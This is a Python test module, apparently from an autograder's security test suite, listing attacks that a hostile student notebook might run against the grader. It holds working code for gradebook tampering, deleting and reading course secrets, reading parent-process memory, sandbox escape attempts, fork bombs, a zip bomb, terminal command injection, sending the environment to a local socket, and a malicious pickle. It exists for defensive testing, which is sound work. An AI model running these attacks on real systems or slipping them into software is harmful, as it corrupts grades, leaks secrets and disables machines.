"""Attacks on the gradebook, on other students and on the machine.

The answers are right: none of these may cost their own student a point either, however little that
student deserves it. Each is bounded in itself, so that a grader without any protection survives it.
"""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

from tests.attacks.attack import (
    HARMING,
    POINTS,
    STUBS,
    Attack,
    Notebook,
    all_but,
    code,
    in_old_format,
    marked,
)

DAEMON = """
import os, time

def daemon(work):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    try:
        work()
    finally:
        os._exit(0)

"""


def _bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(300_000_000))
    return file.getvalue()


def _many_cells(notebook: Notebook) -> None:
    notebook["cells"] += [code(f"cell-{i}", "pass") for i in range(20_000)]


def _large_outputs(notebook: Notebook) -> None:
    output = {
        "output_type": "display_data",
        "data": {"image/png": "A" * 18_000_000},
        "metadata": {},
    }
    notebook["cells"].append({**code("large", "pass"), "outputs": [output]})


def _large_attachment(notebook: Notebook) -> None:
    cell = marked(notebook, "question-old-weights")
    cell["attachments"] = {"big.png": {"image/png": "A" * 18_000_000}}


def _deep_heading(notebook: Notebook) -> None:
    in_old_format(notebook, 3)
    heading = {"cell_type": "heading", "level": 2_000_000_000, "source": "x", "metadata": {}}
    notebook["worksheets"][0]["cells"].append(heading)


def _pipe(path: Path) -> None:
    os.mkfifo(path.with_name("data.csv"))


def _links_out(path: Path) -> None:
    for name, target in {
        "secret.txt": "course/secret",
        "gradebook.txt": "course/gradebook.db",
    }.items():
        path.with_name(name).symlink_to(path.parents[4] / target)
    path.with_name("loop").symlink_to(path.parent, target_is_directory=True)


ATTACKS = (
    Attack(
        "updates-the-gradebook",
        HARMING,
        "opens the gradebook and gives everybody in it 0 points",
        first="""
        import sqlite3

        with sqlite3.connect(f"{COURSE}/course/gradebook.db", timeout=2) as book:
            book.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        """,
    ),
    Attack(
        "trigger-in-the-gradebook",
        HARMING,
        "leaves a trigger in the gradebook that turns every later grade into full marks",
        first="""
        import sqlite3

        with sqlite3.connect(f"{COURSE}/course/gradebook.db", timeout=2) as book:
            book.execute(
                "CREATE TRIGGER generous AFTER UPDATE ON grade WHEN NEW.auto_score IS NOT NULL "
                "BEGIN UPDATE grade SET manual_score = 20 WHERE id = NEW.id; END"
            )
        """,
    ),
    Attack(
        "locks-the-gradebook",
        HARMING,
        "holds a lock on the gradebook for as long as it is graded and longer",
        first=DAEMON
        + """
import sqlite3

def lock():
    book = sqlite3.connect(f"{COURSE}/course/gradebook.db", timeout=2, isolation_level=None)
    book.execute("BEGIN EXCLUSIVE")
    time.sleep(30)

daemon(lock)
time.sleep(0.5)
""",
    ),
    Attack(
        "deletes-the-course",
        HARMING,
        "deletes the gradebook, the submissions and the solutions",
        first="""
        import os, shutil

        for place in ("course/gradebook.db", "course/secret"):
            try:
                os.remove(f"{COURSE}/{place}")
            except OSError:
                pass
        for place in ("course/submitted", "course/autograded", "solutions", "lessons"):
            shutil.rmtree(f"{COURSE}/{place}", ignore_errors=True)
        """,
    ),
    Attack(
        "overwrites-a-neighbour",
        HARMING,
        "empties the submission of a student who is graded later",
        first="""
        import pathlib

        for path in pathlib.Path(COURSE, "course", "submitted").glob("*zoe*/*/*.ipynb"):
            path.write_text("{}")
        """,
    ),
    Attack(
        "poisons-the-solutions",
        HARMING,
        "rewrites the lesson's source and the released lesson",
        first="""
        import pathlib

        for folder in ("solutions", "lessons"):
            for path in pathlib.Path(COURSE, folder).rglob("*"):
                if path.is_file():
                    path.write_text("poisoned")
        """,
    ),
    Attack(
        "reads-the-course",
        HARMING,
        "prints the solutions, the other submissions, the gradebook and the course's key",
        first="""
        import pathlib, re

        for path in sorted(pathlib.Path(COURSE).rglob("*")):
            try:
                content = path.read_bytes()
            except OSError:
                continue
            if path.name == "secret" or path.suffix in (".db", ".ipynb", ".py"):
                for word in set(re.findall(rb"mark-[0-9a-f]{12}-[0-9a-f]{16}|^[0-9a-f]{64}$", content)):
                    print(path, word.decode())
        """,
    ),
    Attack(
        "reads-the-environment",
        HARMING,
        "prints the environment and the home folder's passwords",
        first="""
        import os, pathlib

        print({name: value for name, value in os.environ.items() if "mark-" in value})
        for home in {os.environ.get("HOME", "/"), str(pathlib.Path(COURSE).parent / "home")}:
            for path in pathlib.Path(home).glob(".*"):
                try:
                    print(path, path.read_text()[:200])
                except OSError:
                    pass
        """,
    ),
    Attack(
        "reads-other-processes",
        HARMING,
        "reads the environments and open files of the processes above it",
        first="""
        import pathlib, re

        for folder in pathlib.Path("/proc").iterdir():
            if folder.name.isdigit():
                for what in ("environ", "cmdline"):
                    try:
                        content = (folder / what).read_bytes()
                    except OSError:
                        continue
                    for word in set(re.findall(rb"mark-[0-9a-f]{12}-[0-9a-f]{16}", content)):
                        print(folder, word.decode())
                try:
                    print(*(pathlib.Path(f"{folder}/root{COURSE}/course/secret").read_text().split()))
                except OSError:
                    pass
        """,
    ),
    Attack(
        "reads-memory-of-its-parent",
        HARMING,
        "looks for the course's secrets in the memory of the process above it, and attaches to it",
        first="""
        import ctypes, os, re

        parent = os.getppid()
        ctypes.CDLL(None).ptrace(16, parent, 0, 0)
        try:
            for line in open(f"/proc/{parent}/maps"):
                span, rights, *_ = line.split()
                start, end = (int(x, 16) for x in span.split("-"))
                if "r" in rights and end - start < 50_000_000:
                    with open(f"/proc/{parent}/mem", "rb", 0) as memory:
                        memory.seek(start)
                        try:
                            content = memory.read(end - start)
                        except OSError:
                            continue
                        for word in set(re.findall(rb"mark-[0-9a-f]{12}-[0-9a-f]{16}", content)):
                            print(word.decode())
        finally:
            ctypes.CDLL(None).ptrace(17, parent, 0, 0)
        """,
    ),
    Attack(
        "writes-everywhere",
        HARMING,
        "writes files outside its folder: beside the course, in /tmp, in shared memory",
        first="""
        import pathlib

        places = [f"{place}/{MARK}" for place in ("/tmp", "/var/tmp", "/dev/shm", f"{COURSE}/lessons")]
        places += [CANARY]
        for place in places:
            try:
                pathlib.Path(place).write_text("was here")
            except OSError:
                pass
        """,
    ),
    Attack(
        "climbs-out",
        HARMING,
        "tries its parents' folders, /proc, new namespaces, mounts, chroot and other users to get out",
        first="""
        import ctypes, os, pathlib

        libc = ctypes.CDLL(None)
        ways = [
            lambda: os.setuid(0),
            lambda: os.setgroups([0]),
            lambda: libc.unshare(0x10000000 | 0x00020000),
            lambda: libc.mount(b"proc", b"/proc", b"proc", 0, None),
            lambda: libc.umount2(b"/", 2),
            lambda: os.chroot("/proc/1/root"),
            lambda: os.chdir("/proc/1/cwd"),
            lambda: os.fchdir(3),
        ]
        for way in ways:
            try:
                way()
            except OSError:
                pass
            for root in ("", "/proc/1/root", f"/proc/{os.getppid()}/root", "../../../../../../.."):
                try:
                    pathlib.Path(root + CANARY).write_text("was here")
                except OSError:
                    pass
        """,
    ),
    Attack(
        "fills-the-disk",
        HARMING,
        "writes up to two gigabytes into its folder, beside the course and into /tmp",
        first="""
        block = bytes(10_000_000)
        for place in ("filler", CANARY, f"/tmp/{MARK}"):
            try:
                with open(place, "wb") as file:
                    for _ in range(200):
                        file.write(block)
            except OSError:
                pass
        """,
        answers={
            "output_bpe": """
            def output_bpe(out, Y):
                return (out - Y) * out * (1 - out)
            """
        },
    ),
    Attack(
        "unpacks-a-bomb",
        HARMING,
        "brings a small zip file that unpacks to 300 megabytes, many times over",
        files={"data.zip": _bomb()},
        first="""
        import zipfile

        try:
            for i in range(10):
                with zipfile.ZipFile("data.zip") as archive:
                    archive.extractall(f"copy-{i}")
                    archive.extractall(f"{CANARY}-{i}")
        except OSError:
            pass
        """,
    ),
    Attack(
        "memory-in-a-cell",
        HARMING,
        "asks for memory until there is none",
        first="kept = [np.ones(12_500_000) for _ in range(100)]",
    ),
    Attack(
        "memory-in-a-call",
        HARMING,
        "asks for memory until there is none, in the function that is checked",
        answers={
            "output_bpe": """
            def output_bpe(out, Y):
                kept = [np.ones(12_500_000) for _ in range(100)]
                return kept
            """
        },
        deserves=all_but(output_bpe=0),
    ),
    Attack(
        "forks-without-end",
        HARMING,
        "starts processes that start processes",
        first="""
        import os, time

        own, until = os.getpid(), time.time() + 20
        for _ in range(10):
            try:
                os.fork()
            except OSError:
                break
        while os.getpid() != own and time.time() < until:
            time.sleep(1)
        if os.getpid() != own:
            os._exit(0)
        """,
    ),
    Attack(
        "threads-without-end",
        HARMING,
        "starts five thousand threads",
        first="""
        import threading, time

        for _ in range(5000):
            try:
                threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
            except RuntimeError:
                break
        """,
    ),
    Attack(
        "prints-without-end",
        HARMING,
        "prints two hundred megabytes",
        first="""
        for _ in range(200):
            print("x" * 1_000_000)
        """,
    ),
    Attack(
        "prints-in-every-call",
        HARMING,
        "prints a megabyte to both streams in every call that the check makes",
        answers={
            "output_bpe": """
            import os, sys

            def output_bpe(out, Y):
                print("x" * 1_000_000)
                print("x" * 1_000_000, file=sys.stderr)
                os.write(1, b"x" * 100_000)
                os.write(2, b"x" * 100_000)
                return (out - Y) * out * (1 - out)
            """
        },
    ),
    Attack(
        "shows-without-end",
        HARMING,
        "shows twenty thousand pictures",
        first="""
        from IPython.display import display

        for i in range(20_000):
            display({"text/plain": "p", "image/png": "A" * 500}, raw=True)
        """,
    ),
    Attack(
        "leaves-a-daemon",
        HARMING,
        "leaves a process behind that waits for the end of grading and then writes a file",
        first=DAEMON
        + """
def wait():
    time.sleep(600)
    open(CANARY, "w").write("was here")

daemon(wait)
""",
    ),
    Attack(
        "leaves-a-daemon-that-grades",
        HARMING,
        "leaves a process behind that gives its student full marks once grading is over",
        first=DAEMON
        + """
import sqlite3

def wait():
    for _ in range(200):
        time.sleep(0.1)
        with sqlite3.connect(f"{COURSE}/course/gradebook.db", timeout=5) as book:
            book.execute("UPDATE grade SET manual_score = 12 WHERE auto_score IS NOT NULL")

daemon(wait)
""",
        answers=STUBS,
        deserves=dict.fromkeys(POINTS, 0),
    ),
    Attack(
        "leaves-threads-and-children",
        HARMING,
        "leaves children of every kind that ignore being told to end",
        first="""
        import os, signal, subprocess, sys, time

        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        subprocess.Popen(["sleep", "600"], start_new_session=True)
        subprocess.Popen(["sleep", "600"], restore_signals=False)
        """,
    ),
    Attack(
        "kills-its-parents",
        HARMING,
        "sends SIGKILL and SIGSTOP to every process of the grader that it can see",
        first="""
        import os, pathlib, signal

        mark = MARK.encode()[:17]
        for folder in pathlib.Path("/proc").iterdir():
            if folder.name.isdigit() and int(folder.name) != os.getpid():
                try:
                    if mark in (folder / "environ").read_bytes():
                        for number in (signal.SIGSTOP, signal.SIGKILL):
                            os.kill(int(folder.name), number)
                except OSError:
                    continue
        """,
    ),
    Attack(
        "calls-home",
        HARMING,
        "sends what it knows to a server, by TCP and by an abstract Unix socket",
        first="""
        import os, socket

        for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, SOCKET)):
            try:
                with socket.socket(family) as connection:
                    connection.settimeout(2)
                    connection.connect(address)
                    connection.sendall(f"{MARK} {dict(os.environ)}".encode())
            except OSError:
                pass
        """,
    ),
    Attack(
        "serves",
        HARMING,
        "leaves a server behind that hands out the course's files",
        first="""
        import subprocess, sys

        subprocess.Popen(
            [sys.executable, "-m", "http.server", "0", "--bind", "127.0.0.1", "--directory", COURSE],
            start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        """,
    ),
    Attack(
        "takes-the-terminal",
        HARMING,
        "writes to the teacher's terminal and types a command into it",
        first="""
        import fcntl, glob, os, termios

        for name in ["/dev/tty", *glob.glob("/dev/pts/*"), *(f"/proc/self/fd/{n}" for n in range(3))]:
            try:
                terminal = os.open(name, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
                if os.isatty(terminal):
                    os.write(terminal, b"\\x1b]0;" + MARK.encode() + b"\\x07")
                    for letter in MARK + "\\n":
                        fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
            except OSError:
                continue
        """,
    ),
    Attack(
        "junk-on-every-descriptor",
        HARMING,
        "writes rubbish to, reads from and closes every file that it has inherited",
        first="""
        import os

        for number in [*range(3, 64)]:
            try:
                os.set_blocking(number, False)
                os.write(number, os.urandom(100_000))
                os.read(number, 100_000)
            except OSError:
                continue
        os.closerange(3, 64)
        """,
    ),
    Attack(
        "pickled-payload",
        HARMING,
        "returns an object that writes a file wherever it is unpickled",
        answers={
            "output_bpe": """
            class Payload:
                def __reduce__(self):
                    return open, (CANARY, "w")

            def output_bpe(out, Y):
                return np.full(out.shape, Payload(), dtype=object)
            """
        },
        deserves=all_but(output_bpe=0),
    ),
    Attack(
        "inherited-shared-memory",
        HARMING,
        "leaves shared memory, semaphores and message queues of System V and POSIX behind",
        first="""
        import ctypes
        from multiprocessing import resource_tracker, shared_memory

        try:
            kept = shared_memory.SharedMemory(MARK, create=True, size=1_000_000)
            resource_tracker.unregister(kept._name, "shared_memory")
        except OSError:
            pass
        ctypes.CDLL(None).shmget(0x4E4E, 1_000_000, 0o1666)
        """,
    ),
    Attack(
        "many-cells",
        HARMING,
        "hands in twenty thousand cells",
        edit=_many_cells,
        may_refuse=True,
    ),
    Attack(
        "large-outputs",
        HARMING,
        "hands in an output of eighteen megabytes",
        edit=_large_outputs,
    ),
    Attack(
        "large-attachment",
        HARMING,
        "hands in a picture of eighteen megabytes inside its written answer",
        edit=_large_attachment,
    ),
    Attack(
        "pipe-beside-the-notebook",
        HARMING,
        "puts a named pipe beside the notebook, which whoever copies it waits for, for ever",
        arrange=_pipe,
    ),
    Attack(
        "links-beside-the-notebook",
        HARMING,
        "puts links to the course's key and gradebook beside the notebook, and one to its own folder",
        arrange=_links_out,
        first="""
        import pathlib

        for name in ("secret.txt", "gradebook.txt"):
            try:
                print(pathlib.Path(name).read_bytes()[:70])
            except OSError:
                pass
        """,
    ),
    Attack(
        "children-that-nobody-waits-for",
        HARMING,
        "computes for ever in children whose time is added to nobody's when they end",
        first="""
        import os, signal, time

        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        until = time.time() + 3600
        while time.time() < until:
            if not os.fork():
                while time.process_time() < 0.3:
                    pass
                os._exit(0)
            try:
                os.wait()
            except OSError:
                pass
        """,
    ),
    Attack(
        "thousands-of-short-lives",
        HARMING,
        "starts programs for ever that are over before anybody has looked at what they use",
        first="""
        import os, signal, time

        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        until = time.time() + 3600
        while time.time() < until:
            for _ in range(5):
                os.posix_spawn("/bin/true", ["true"], {})
            try:
                os.wait()
            except OSError:
                pass
        """,
    ),
    Attack(
        "uses-up-names-and-numbers",
        HARMING,
        "takes every inode of its folder, every descriptor, and as many waiting signals as it may have",
        first="""
        import os, signal

        numbers = []
        try:
            while True:
                numbers.append(os.dup(2))
        except OSError:
            for number in numbers:
                os.close(number)
        try:
            for i in range(20_000):
                os.symlink("x" * 4000, f"{MARK}-{i}")
        except OSError:
            pass
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
        for _ in range(20_000):
            os.kill(os.getpid(), signal.SIGRTMIN)
        """,
    ),
    Attack(
        "heading-of-two-gigabytes",
        HARMING,
        "has a heading of level two thousand million, as many signs as old notebooks' converter writes",
        edit=_deep_heading,
    ),
)
